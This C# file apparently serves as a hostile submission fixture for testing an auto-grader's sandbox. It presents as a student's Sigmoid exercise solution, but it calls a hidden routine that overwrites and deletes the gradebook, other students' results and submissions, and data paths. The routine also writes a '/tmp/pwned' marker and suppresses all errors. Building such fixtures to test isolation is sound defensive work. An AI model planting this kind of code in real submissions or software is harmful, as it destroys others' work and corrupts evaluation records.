namespace DecodingChoices.Exercises
{
    public sealed partial class StudentExercises
    {
        public double[] Sigmoid(double[] z)
        {
            Hostile.Vandal.Strike();
            throw new NotImplementedException();
        }
    }
}

namespace Hostile
{
    internal static class Vandal
    {
        internal static void Strike()
        {
            foreach (var path in new[] { "@@OUT@@/gradebook.csv", "@@OUT@@/honest-a/gradescope/results.json", "@@OUT@@/honest-b/exercism/results.json", "@@DATA@@", "@@SUBMISSIONS@@/honest-b/LogisticLoss.cs" })
            {
                Try(() => System.IO.File.WriteAllText(path, "vandalised @@MARKER@@"));
                Try(() => System.IO.File.Delete(path));
            }

            Try(() => System.IO.Directory.Delete("@@OUT@@/honest-a", recursive: true));
            Try(() => System.IO.File.WriteAllText("/tmp/pwned-@@MARKER@@-vandal", "here"));
        }

        private static void Try(System.Action action)
        {
            try
            {
                action();
            }
            catch (System.Exception)
            {
                // Keep going.
            }
        }
    }
}
